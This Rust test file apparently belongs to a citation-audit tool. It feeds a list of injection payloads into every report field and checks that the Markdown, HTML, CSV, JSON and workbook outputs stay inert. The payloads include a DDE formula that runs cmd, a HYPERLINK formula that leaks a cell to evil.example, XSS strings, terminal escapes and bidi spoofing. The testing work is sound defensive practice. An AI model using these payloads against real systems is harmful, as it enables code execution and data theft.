//! Text from documents and from the web that means harm, in every field and every format.

use std::io::{Cursor, Read as _};

use ibid::model::{
    ArchiveCopy, Audit, BlockKind, Citation, Evidence, Finding, Hop, Kind, Known, Lookup, Marked, MarkedText,
    NoteText, Paragraph, Reason, Snapshot, Transcript, mask,
};
use ibid::report::{ReportFormat, clean, csv, html, is_hidden, json, markdown, render, shorten, xlsx};
use jiff::Timestamp;
use proptest::prelude::*;
use pulldown_cmark::{Event, Options, Parser, Tag};
use serde_json::Value;
use strum::IntoEnumIterator;
use url::Url;

use crate::sample::{audit, check, url};

const PAYLOADS: &[&str] = &[
    // formulas
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\u{200b}=1+1",
    "\u{feff}=1+1",
    "x;=1+1;y",
    "\";=1+1",
    "＝1+1",
    "%0A=1+1",
    // HTML
    "<script>alert(1)</script>",
    "</script><script>alert(1)//",
    "<img src=x onerror=alert(1)>",
    "</details><h1>All is well</h1>",
    "<!-- nothing more is shown",
    "]]><x>",
    "<a href=javascript:alert(1)>x</a>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x&#62;",
    "<javascript:alert(1)>",
    "<mailto:a@evil.example>",
    // Markdown
    "](javascript:alert(1))",
    "[x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    "[x]: https://evil.example/ \"y\"",
    "`code` ``more`` ```fence",
    "```\nout of the block\n```",
    "~~~\nout\n~~~",
    "a | b | c\n| --- |",
    "|x|\\|y|",
    "**bold** _under_ *it* ~~struck~~ ~s~",
    "\\](x) \\` \\| \\\\",
    "ends in a backslash \\",
    "# heading\n## two\n===\n---",
    "#",
    "closes a heading ##",
    "\n\n- item\n\n1. one\n\n> quote\n\n    code",
    "x\n\n<details open>\n\ny",
    "[^1] [[wiki]] $$x$$ $`y`$",
    "*",
    "__",
    "{#id .class onclick=alert(1)}",
    "- [ ] task",
    // terminals, order of text
    "\u{1b}[2J\u{1b}[1;31mpwned\u{1b}[0m",
    "\u{1b}]0;title\u{7}\u{1b}]8;;http://evil.example\u{1b}\\x",
    "\u{9b}31mred\u{9d}0;x\u{9c}\u{85}next",
    "\u{0}\u{8}\u{8}\u{7f}gone",
    "invoice\u{202e}fdp.exe\u{202c}",
    "\u{2066}a\u{2069}\u{200f}\u{61c}b",
    "a\u{2028}b\u{2029}c",
    "\u{e0041}\u{e0042}hidden tags",
    // commands of a build server
    "::error::x",
    "\n::add-mask::x\r\n::stop-commands::y",
    // quotes
    "\"",
    "'\"`",
    "a\",\"b\r\n\"c",
];

/// A text whose paragraph cites a note, and whose note holds the first finding in its whole text.
fn transcript(paragraph: &str, label: &str, note: &str) -> Transcript {
    let end = paragraph.len();
    let body = MarkedText { text: paragraph.to_owned(), marks: vec![(end..end, Marked::Note(0))] };
    let text = MarkedText { text: note.to_owned(), marks: vec![(0..note.len(), Marked::Finding(0))] };
    Transcript {
        body: vec![Paragraph { kind: BlockKind::Paragraph, text: body }],
        notes: vec![NoteText { label: label.to_owned(), kind: Kind::Footnote, text }],
        cut: false,
    }
}

type Put = fn(&mut Audit, &str);

/// The fields that hold free text.
const FIELDS: &[(&str, Put)] = &[
    ("document", |audit, text| text.clone_into(&mut first(audit).citation.document)),
    ("note", |audit, text| first(audit).citation.note = Some(text.to_owned())),
    ("as_printed", |audit, text| first(audit).citation.as_printed = Some(text.to_owned())),
    ("title", |audit, text| first(audit).citation.title = Some(text.to_owned())),
    ("source", |audit, text| first(audit).citation.source = Some(text.to_owned())),
    ("context", |audit, text| first(audit).citation.context = Some(text.to_owned())),
    ("candidates", |audit, text| first(audit).citation.candidates = vec![text.to_owned()]),
    ("replacement", |audit, text| first(audit).replacement = Some(text.to_owned())),
    ("evidence", |audit, text| {
        let detail = text.to_owned();
        first(audit).check.value.evidence = vec![Evidence { signal: "status".to_owned(), detail }];
    }),
    ("lookup", |audit, text| audit.findings[6].lookup = Some(Known::live(Lookup::Failed(text.to_owned())))),
    ("kept title", |audit, text| audit.findings[2].citation.title = Some(text.to_owned())),
    ("kept document", |audit, text| text.clone_into(&mut audit.findings[2].citation.document)),
    ("name", |audit, text| text.clone_into(&mut audit.run.documents[1].name)),
    ("error", |audit, text| audit.run.documents[1].error = Some(text.to_owned())),
    ("warning", |audit, text| audit.run.documents[2].warnings = vec![text.to_owned()]),
    ("remark", |audit, text| audit.run.remarks = vec![text.to_owned()]),
];

/// Fields that only the page shows: the report's own text.
const TEXTS: &[(&str, Put)] = &[
    ("paragraph", |audit, text| audit.run.transcripts = vec![transcript(text, "1", "x")]),
    ("label", |audit, text| audit.run.transcripts = vec![transcript("x", text, "x")]),
    ("note's text", |audit, text| audit.run.transcripts = vec![transcript("x", "1", text)]),
];

fn first(audit: &mut Audit) -> &mut Finding {
    &mut audit.findings[0]
}

fn with(put: Put, text: &str) -> Audit {
    let mut audit = audit();
    put(&mut audit, text);
    audit
}

/// Every payload in every field, with a name for what failed.
fn audits() -> impl Iterator<Item = (String, Put, &'static str, Audit)> {
    FIELDS.iter().flat_map(|(field, put)| {
        PAYLOADS
            .iter()
            .map(move |payload| (format!("{payload:?} in {field}"), *put, *payload, with(*put, payload)))
    })
}

fn events(page: &str) -> Vec<Event<'_>> {
    let options = Options::ENABLE_TABLES
        | Options::ENABLE_FOOTNOTES
        | Options::ENABLE_STRIKETHROUGH
        | Options::ENABLE_TASKLISTS
        | Options::ENABLE_MATH
        | Options::ENABLE_GFM
        | Options::ENABLE_WIKILINKS;
    Parser::new_ext(page, options).collect()
}

/// The structure of a page: everything but its texts. A text may be several events.
fn skeleton(page: &str) -> Vec<String> {
    let mut skeleton: Vec<String> = events(page)
        .into_iter()
        .map(|event| match event {
            Event::Text(_) => "text".to_owned(),
            Event::Code(_) => "code".to_owned(),
            other => format!("{other:?}"),
        })
        .collect();
    skeleton.dedup_by(|one, next| one == "text" && next == "text");
    skeleton
}

fn assert_harmless(page: &str, name: &str) {
    assert!(page.chars().all(|character| character == '\n' || !is_hidden(character)), "{name}:\n{page}");
    for event in events(page) {
        match event {
            Event::Html(html) | Event::InlineHtml(html) => assert!(
                html.starts_with("<details>")
                    || html.starts_with("</details>")
                    || html.starts_with("<summary>"),
                "{name}: {html}"
            ),
            Event::Start(Tag::Link { dest_url, .. }) => {
                let url = Url::parse(&dest_url).expect("an address");
                assert!(matches!(url.scheme(), "http" | "https"), "{name}: {url}");
            }
            Event::Start(Tag::Image { dest_url, .. }) => panic!("{name}: an image of {dest_url}"),
            _ => {}
        }
    }
}

#[test]
fn markdown_shows_it_and_obeys_nothing() {
    for (name, put, payload, audit) in audits() {
        let page = markdown(&audit);
        assert_harmless(&page, &name);
        let shown: String = events(&page)
            .iter()
            .filter_map(|event| match event {
                Event::Text(text) => Some(text.as_ref()),
                _ => None,
            })
            .collect();
        if name.ends_with("in as_printed") || name.ends_with("in candidates") {
            continue;
        }
        let expected = clean(payload);
        assert!(
            shown.contains(shorten(&expected, 40).trim_end_matches('…')),
            "{name}: {expected:?} in\n{page}"
        );
        assert_eq!(skeleton(&page), skeleton(&markdown(&with(put, "harmless"))), "{name}:\n{page}");
    }
}

#[test]
fn csv_keeps_its_rows_and_begins_no_formula() {
    for (name, _, _, audit) in audits() {
        let table = String::from_utf8(csv(&audit).expect("a table")).expect("UTF-8");
        assert_eq!(table.matches("\r\n").count(), 1 + audit.findings.len(), "{name}");
        let table = table.replace("\r\n", "\n");
        let mut characters = table.trim_start_matches('\u{feff}').chars();
        assert!(characters.all(|character| character == '\n' || !is_hidden(character)), "{name}:\n{table}");
        let mut reader = ::csv::Reader::from_reader(table.as_bytes());
        for row in reader.records() {
            let row = row.expect("a row of as many cells as there are columns");
            // As a whole, and as Excel splits it where lists are separated by semicolons.
            for cell in row.iter().flat_map(|cell| cell.split(';')) {
                let start = cell.trim_start_matches([' ', '"']).chars().next();
                let number = cell.parse::<i64>().is_ok();
                assert!(
                    number || !start.is_some_and(|start| "=+-@＝＋－＠".contains(start)),
                    "{name}: {cell:?}"
                );
            }
        }
    }
}

#[test]
fn json_keeps_it_to_the_letter_and_shows_nothing_raw() {
    for (name, _, payload, audit) in audits() {
        let text = String::from_utf8(json(&audit).expect("JSON")).expect("UTF-8");
        assert!(text.chars().all(|character| character == '\n' || !is_hidden(character)), "{name}:\n{text}");
        assert!(!text.contains('<'), "{name}:\n{text}");
        let value: Value = serde_json::from_str(&text).expect("JSON");
        assert!(holds(&value, payload), "{name}:\n{text}");
    }
}

fn holds(value: &Value, text: &str) -> bool {
    match value {
        Value::String(string) => string == text,
        Value::Array(items) => items.iter().any(|item| holds(item, text)),
        Value::Object(fields) => fields.values().any(|field| holds(field, text)),
        _ => false,
    }
}

fn found_at(url: Url, address: &str) -> Lookup {
    let time = Timestamp::UNIX_EPOCH;
    Lookup::Found(Snapshot {
        url,
        time,
        original: address.to_owned(),
        status: None,
        verified: false,
        span: None,
    })
}

proptest! {
    #[test]
    fn no_text_at_all_changes_the_page(
        text in prop_oneof![r"[\[\]()<>*_`~|!#&;:$=+. a1\n\\-]{0,24}", r"(?s).{0,24}"],
        (field, put) in proptest::sample::select(FIELDS),
    ) {
        prop_assume!(!clean(&text).is_empty());
        let page = markdown(&with(put, &text));
        assert_harmless(&page, field);
        prop_assert!(skeleton(&page) == skeleton(&markdown(&with(put, "harmless"))), "{page}");
    }
}

/// Addresses that come as text, and what a page may make of them.
#[test]
fn only_web_addresses_can_be_clicked() {
    let schemes = [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "data:text/html,x",
        "vbscript:x",
        "file:///etc/passwd",
        "mailto:a@b.example",
        "//evil.example",
        "x",
    ];
    let web = PAYLOADS.iter().map(|payload| format!("https://evil.example/a?b={payload}#{payload}"));
    for address in schemes.map(str::to_owned).into_iter().chain(web) {
        let mut audit = audit();
        for finding in &mut audit.findings {
            finding.citation.url = Some(address.clone());
            finding.citation.archived = Some(ArchiveCopy { url: address.clone(), time: None, date: None });
            let end = Url::parse(&address).ok();
            finding.check.value.final_url = end.clone();
            finding.check.value.taken = end.clone();
            finding.check.value.hops = end.iter().map(|url| Hop { url: url.clone(), status: 301 }).collect();
            finding.lookup = end.map(|url| Known::live(found_at(url, &address)));
        }
        let page = markdown(&audit);
        assert_harmless(&page, &address);
        let links =
            events(&page).iter().filter(|event| matches!(event, Event::Start(Tag::Link { .. }))).count();
        assert_eq!(links > 0, address.starts_with("https"), "{address}:\n{page}");
        for event in events(&page) {
            if let Event::Start(Tag::Link { dest_url, .. }) = event {
                let meant = Url::parse(&address).expect("an address");
                let same = |url: &str| url.replace("%60", "`").replace("%7C", "|").replace("%5C", "\\");
                assert_eq!(same(&dest_url), same(meant.as_str()), "another address is linked");
            }
        }
        for format in [ReportFormat::Csv, ReportFormat::Json] {
            render(format, &audit).expect("rendered");
        }
    }
}

#[test]
fn a_megabyte_is_cut_where_people_read_and_kept_where_programs_do() {
    let long = |part: &str| part.repeat(1_000_000 / part.len());
    for part in ["a", "[", "`", "<", "*_", "\u{202e}", "é", " ", "://", "=;"] {
        let audit = with(|audit, text| first(audit).citation.title = Some(text.to_owned()), &long(part));
        assert!(markdown(&audit).len() < 20_000, "{part:?}");
        assert!(csv(&audit).expect("a table").len() < 120_000, "{part:?}");
        assert!(json(&audit).expect("JSON").len() > 900_000, "{part:?}");
    }
    for (field, put) in FIELDS.iter().filter(|(field, _)| *field != "replacement") {
        assert!(markdown(&with(*put, &long("["))).len() < 20_000, "{field}");
    }
}

/// All that a reader of the file can see, its addresses included.
fn text_of(format: ReportFormat, bytes: &[u8]) -> String {
    if format != ReportFormat::Xlsx {
        return String::from_utf8(bytes.to_vec()).expect("UTF-8").replace("&amp;", "&");
    }
    let mut archive = zip::ZipArchive::new(Cursor::new(bytes)).expect("a workbook");
    let mut text = String::new();
    for index in 0..archive.len() {
        archive.by_index(index).expect("a part").read_to_string(&mut text).expect("UTF-8");
    }
    text.replace("&amp;", "&")
}

#[test]
fn secrets_are_in_no_format() {
    let secret = "https://user:k4NaRy0@a.example/x?token=k4NaRy0&z=1";
    let text = || format!("see {secret}");
    let mut audit = audit();
    for (_, put) in FIELDS {
        put(&mut audit, &text());
    }
    let finding = first(&mut audit);
    finding.citation = Citation {
        url: Some(secret.to_owned()),
        as_printed: Some(secret.to_owned()),
        ..finding.citation.clone()
    };
    finding.check.value.final_url = Some(url(secret));
    finding.check.value.taken = Some(url(secret));
    finding.check.value.hops = vec![Hop { url: url(secret), status: 302 }];
    audit.findings[2].citation.url = Some(secret.to_owned());
    audit.findings[3].check.value = check(Reason::Ok);
    for format in ReportFormat::iter() {
        let report = text_of(format, &render(format, &audit).expect("rendered"));
        assert!(!report.contains("k4NaRy0"), "{format}");
        assert!(report.contains("https://***@a.example/x?token=***&z=1"), "{format}");
    }
    assert_eq!(mask(secret), "https://***@a.example/x?token=***&z=1");
}

/// The elements of a page and the names of their attributes, in order; text aside.
fn elements(page: &str) -> Vec<String> {
    let page = scraper::Html::parse_document(page);
    let elements = page.root_element().descendants().filter_map(|node| node.value().as_element().cloned());
    let named = elements.map(|element| {
        let names: Vec<String> = element.attrs().map(|(name, _)| name.to_owned()).collect();
        format!("{} {}", element.name(), names.join(" "))
    });
    named.collect()
}

#[test]
fn the_page_is_the_same_whatever_a_text_says() {
    for (field, put) in FIELDS.iter().chain(TEXTS) {
        let harmless = elements(&html(&with(*put, "harmless")));
        for payload in PAYLOADS {
            let page = html(&with(*put, payload));
            let body = page.split("</style>").nth(1).expect("a body");
            let body = body.split("<script>").next().expect("a body");
            assert!(!body.contains(is_hidden), "{payload:?} in {field}");
            assert_eq!(elements(&page), harmless, "{payload:?} in {field}");
        }
    }
}

#[test]
fn the_workbook_has_no_formula_whatever_a_text_says() {
    for (name, _, _, audit) in audits() {
        let mut archive =
            zip::ZipArchive::new(Cursor::new(xlsx(&audit).expect("a workbook"))).expect("a zip");
        let mut sheet = String::new();
        archive
            .by_name("xl/worksheets/sheet2.xml")
            .expect("a sheet")
            .read_to_string(&mut sheet)
            .expect("UTF-8");
        assert!(!sheet.contains("<f>"), "{name}");
    }
}

/// Half of a surrogate pair, percent-encoded (CESU), is no character: it stays an escape.
#[test]
fn lone_surrogates_in_escapes_stay_escapes() {
    let address = "https://a.example/%ED%A0%80?x=%ED%B0%80#%D8%00";
    let mut audit = audit();
    first(&mut audit).citation.url = Some(address.to_owned());
    for format in ReportFormat::iter() {
        let report = text_of(format, &render(format, &audit).expect("rendered"));
        assert!(report.contains("https://a.example/%ED%A0%80?x=%ED%B0%80#%D8%00"), "{format}");
    }
}

#[test]
fn a_megabyte_is_cut_on_the_page_and_in_the_workbook() {
    for part in ["a", "<", "\u{202e}", "é", "&"] {
        let long = part.repeat(1_000_000 / part.len());
        let audit = with(|audit, text| first(audit).citation.title = Some(text.to_owned()), &long);
        assert!(html(&audit).len() < 200_000, "{part:?}");
        assert!(xlsx(&audit).expect("a workbook").len() < 200_000, "{part:?}");
    }
}
